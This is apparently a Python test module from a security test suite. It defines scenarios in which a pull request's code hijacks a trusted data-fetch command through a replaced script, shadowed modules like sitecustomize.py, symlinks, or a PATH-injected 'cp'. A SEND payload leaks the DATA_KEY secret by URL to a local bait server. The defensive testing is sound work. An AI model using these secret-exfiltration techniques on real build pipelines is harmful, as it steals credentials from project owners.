"""Base's fetch command runs a script of head's, with the secrets that base named for its own."""

from collections.abc import Callable, Mapping

from tests.attacks import project
from tests.attacks.attack import CONFINED, Attack, Files
from tests.attacks.bait import Bait
from tests.attacks.commits import Entry, Link, Program

_fetch: dict[str, object] = {"run": "python3 tools/fetch.py", "secrets": ["DATA_KEY"], "network": True}
FETCH: dict[str, object] = {
    "data": {
        "fetch": _fetch,
        "path": "got/rows.csv",
    }
}
SCRIPT = """\
import os
import shutil

import helper

os.makedirs("got", exist_ok=True)
shutil.copy(helper.SOURCE, "got/rows.csv")
"""
SEND = """\
import os
import urllib.request

urllib.request.urlopen("http://127.0.0.1:PORT/?" + os.environ.get("DATA_KEY", "none"), timeout=5).read()
"""


def main(_bait: Bait) -> Files:
    """A project whose data a script brings."""
    return {
        "tools/fetch.py": SCRIPT,
        "tools/helper.py": 'SOURCE = "store/rows.csv"\n',
        "store/rows.csv": project.ROWS_CSV,
        "data/rows.csv": None,
    }


def _sends(*names: str) -> Callable[[Bait], Files]:
    return lambda bait: {name: SEND.replace("PORT", str(bait.port)) + SCRIPTS.get(name, "") for name in names}


SCRIPTS: Mapping[str, str] = {"tools/fetch.py": SCRIPT, "tools/helper.py": 'SOURCE = "store/rows.csv"\n'}


def _by_link(bait: Bait) -> dict[str, Entry]:
    return {"tools/fetch.py": Link("../evil.py"), "evil.py": SEND.replace("PORT", str(bait.port)) + SCRIPT}


def _attack(name: str, change: Callable[[Bait], Files], *, slow: bool = True) -> Attack:
    return Attack(name=name, main=main, change=change, settings=FETCH, levels=CONFINED, slow=slow)


ATTACKS = (
    _attack("a fetch script of head's", _sends("tools/fetch.py"), slow=False),
    _attack("a module that the fetch script imports", _sends("tools/helper.py")),
    _attack(
        "modules beside the fetch script", _sends("tools/shutil.py", "tools/sitecustomize.py", "shutil.py", "helper.py")
    ),
    _attack("a fetch script that is a link", _by_link),
    Attack(
        name="a program of head's that base's fetch command names",
        main=lambda _bait: {"store/rows.csv": project.ROWS_CSV, "data/rows.csv": None},
        change=lambda bait: {"bin/cp": Program(f"#!/usr/bin/python3\n{SEND.replace('PORT', str(bait.port))}")},
        environment={"PATH": "{workspace}/bin:/usr/local/bin:/usr/bin:/bin"},
        settings={"data": {"fetch": {**_fetch, "run": "cp store/rows.csv rows.csv"}, "path": "rows.csv"}},
        levels=CONFINED,
        slow=True,
    ),
    _attack(
        "a folder of fetch scripts that is a link",
        lambda bait: {
            "tools/fetch.py": None,
            "tools/helper.py": None,
            "tools": Link("evil"),
            "evil/fetch.py": SEND.replace("PORT", str(bait.port)) + SCRIPT,
            "evil/helper.py": SCRIPTS["tools/helper.py"],
        },
    ),
)
